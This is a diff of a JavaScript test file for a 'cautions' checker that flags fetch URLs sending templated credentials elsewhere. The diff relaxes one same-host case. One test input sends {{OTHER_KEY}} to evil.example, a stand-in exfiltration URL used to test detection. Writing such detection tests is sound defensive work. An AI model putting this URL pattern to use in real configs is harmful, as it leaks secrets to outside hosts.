@@ -106,9 +106,9 @@ describe('what to look at', () => {
 
   test('another server, another secret, credentials that go elsewhere, and a server from values', () => {
     expect(cautions({})).toEqual([]);
-    expect(cautions({ fetch: { url: 'https://shop.example/other?key={{SHOP_KEY}}&x={{PLAIN}}' } })).toEqual([
-      expect.stringContaining('keeps its credentials and gets another address'),
-    ]);
+    expect(cautions({ fetch: { url: 'https://shop.example/other?key={{SHOP_KEY}}&x={{PLAIN}}' } })).toEqual(
+      [],
+    );
     expect(cautions({ fetch: { url: 'https://evil.example/?k={{OTHER_KEY}}' } })).toEqual([
       expect.stringContaining('names evil.example'),
       expect.stringContaining('uses {{OTHER_KEY}}'),
